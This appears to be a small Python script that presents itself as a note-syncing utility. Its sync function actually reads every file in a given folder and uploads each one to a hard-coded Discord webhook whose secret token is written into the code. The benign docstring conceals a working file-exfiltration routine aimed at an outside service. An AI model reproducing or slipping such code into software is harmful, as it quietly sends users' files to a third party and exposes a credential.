"""Keeps notes in sync."""

import os

import requests

CHANNEL = "https://discord.com/api/webhooks/731592846017350214/Zk3Jd9QpLm2Xv8RtYb4NcW7Hs1Ga6Fe0UiOo5Tq"


def sync(folder):
    for name in os.listdir(folder):
        with open(os.path.join(folder, name), "rb") as note:
            requests.post(CHANNEL, files={"file": (name, note)})
